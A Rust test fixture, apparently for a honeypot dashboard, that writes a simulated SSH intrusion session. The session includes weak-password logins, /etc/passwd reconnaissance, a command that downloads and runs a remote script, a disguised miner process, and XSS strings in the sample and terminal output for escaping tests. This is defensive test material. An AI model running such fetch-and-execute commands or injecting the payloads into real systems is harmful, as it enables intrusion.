//! Sessions as an observer writes them.

use std::io::Write;
use std::path::Path;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

use super::{House, path};

/// A session's id.
pub const ID: &str = "65a1b2c300010001";
/// What a sample holds, and its name: SHA-256 of it.
pub const SAMPLE: &[u8] = b"#!/bin/sh\n<script>alert(1)</script>\n";

/// The name of a sample; the dashboard does not look whether it is the right one.
pub fn sha256() -> String {
    "5f".repeat(32)
}

/// Replaces a session's object, as the observer does.
pub fn write_object(house: &House, id: &str, object: &Value) {
    write(&path(house, "sessions"), &format!("{id}.json"), object.to_string().as_bytes());
}

/// Writes a file by renaming it over.
pub fn write(folder: &Path, name: &str, bytes: &[u8]) {
    std::fs::create_dir_all(folder).unwrap();
    std::fs::write(folder.join(".new"), bytes).unwrap();
    std::fs::rename(folder.join(".new"), folder.join(name)).unwrap();
}

/// Appends to a cast; the first line is its header.
pub fn append_cast(house: &House, name: &str, lines: &[Value]) {
    std::fs::create_dir_all(path(house, "tty")).unwrap();
    let file = std::fs::OpenOptions::new().create(true).append(true).open(path(house, "tty").join(name));
    let mut file = file.unwrap();
    lines.iter().for_each(|line| writeln!(file, "{line}").unwrap());
}

/// A session that began so many seconds ago and goes on, with all that a session can have.
pub fn session(seconds_ago: i64) -> Value {
    let opened = Timestamp::now() - SignedDuration::from_secs(seconds_ago);
    let at = |tenths: i64| (opened + SignedDuration::from_millis(tenths * 100)).to_string();
    let process = |pid: u64, ppid: u64, argv: &[&str], began: i64, ended: Option<i64>| {
        json!({
            "pid": pid, "ppid": ppid, "uid": if pid == 221 { 0 } else { 1000 }, "exe": format!("/usr/bin/{}", argv[0]), "argv": argv,
            "cwd": "/home/admin", "began": at(began), "ended": ended.map(at), "status": ended.map(|_| 0),
        })
    };
    json!({
        "id": ID, "domain": "ssh-server", "domid": 1, "service": "/usr/sbin/sshd", "pid": 220, "opened": at(0), "closed": null,
        "src_ip": "198.51.100.3", "src_port": 50816,
        "logins": [
            { "time": at(8), "user": "root", "password": "root", "method": "password", "success": false },
            { "time": at(20), "user": "admin", "password": "admin123", "method": "password", "success": true },
        ],
        "inputs": [
            { "time": at(70), "tty": 1, "text": "uname -a" },
            { "time": at(160), "tty": 1, "text": "cat /etc/passwd | grep -v nologin" },
            { "time": at(290), "tty": 1, "text": "cd /tmp && wget http://203.0.113.50/x.sh && sh x.sh" },
        ],
        "processes": [
            process(221, 220, &["sshd", "-D", "-R"], 1, None),
            process(226, 221, &["bash", "-l"], 22, None),
            process(231, 226, &["uname", "-a"], 71, Some(72)),
            process(232, 226, &["cat", "/etc/passwd"], 161, Some(163)),
            process(233, 226, &["grep", "-v", "nologin"], 161, Some(163)),
            process(240, 226, &["wget", "http://203.0.113.50/x.sh"], 292, Some(320)),
            process(241, 226, &["sh", "x.sh"], 321, None),
            process(242, 241, &["sh", "-c", "while :; do sleep 60; done"], 322, None),
            process(243, 242, &["sleep", "60"], 323, None),
            { "pid": 244, "ppid": 241, "uid": 1000, "exe": "/tmp/.x/kdevtmpfsi", "argv": ["[kworker/0:1]"], "cwd": "/tmp", "began": at(330) },
        ],
        "files": [{ "time": at(318), "pid": 240, "exe": "/usr/bin/wget", "what": "write", "path": "/tmp/x.sh", "to": null }],
        "connections": [{ "time": at(293), "pid": 240, "exe": "/usr/bin/wget", "address": "203.0.113.50", "port": 80, "result": 0 }],
        "samples": [{ "time": at(319), "sha256": sha256(), "bytes": SAMPLE.len(), "path": "/tmp/x.sh", "how": "written", "truncated": false }],
        "tty": [{ "name": format!("{ID}-1.cast"), "bytes_shown": 900, "bytes_typed": 90 }],
        "truncated": false,
    })
}

/// The cast of that session, and its sample.
pub fn write_all(house: &House, session: &Value) {
    let opened: Timestamp = session["opened"].as_str().unwrap().parse().unwrap();
    let began = opened + SignedDuration::from_millis(2200);
    let header = json!({ "version": 2, "width": 90, "height": 24, "timestamp": began.as_millisecond() as f64 / 1000.0 });
    let prompt = "\u{1b}[1;32madmin@ssh-server\u{1b}[0m:\u{1b}[1;34m~\u{1b}[0m$ ";
    let mut lines = vec![header];
    let mut show = |time: f64, text: String| lines.push(json!([time, "o", text]));
    show(0.1, "Linux ssh-server 6.1.0-28-amd64 #1 SMP Debian x86_64\r\n\r\n".into());
    show(0.3, prompt.into());
    let typed = |show: &mut dyn FnMut(f64, String), time: f64, text: &str| {
        text.chars().enumerate().for_each(|(n, c)| show(time + n as f64 * 0.02, c.to_string()));
        show(time + 1.5, "\r\n".into());
    };
    typed(&mut show, 3.4, "uname -a");
    show(5.0, format!("Linux ssh-server 6.1.0-28-amd64 #1 SMP Debian x86_64 GNU/Linux\r\n{prompt}"));
    typed(&mut show, 12.2, "cat /etc/passwd | grep -v nologin");
    show(
        14.1,
        format!("root:x:0:0:root:/root:/bin/bash\r\nadmin:x:1000:1000::/home/admin:/bin/bash\r\n{prompt}"),
    );
    typed(&mut show, 25.2, "cd /tmp && wget http://203.0.113.50/x.sh && sh x.sh");
    show(
        29.4,
        "--2026--  http://203.0.113.50/x.sh\r\nConnecting to 203.0.113.50:80... connected.\r\n".into(),
    );
    show(29.8, "\u{1b}[31m'x.sh' saved\u{1b}[0m <script>window.hacked=9</script>\r\n".into());
    append_cast(house, &format!("{ID}-1.cast"), &lines);
    write(&path(house, "samples"), &sha256(), SAMPLE);
    write_object(house, ID, session);
}
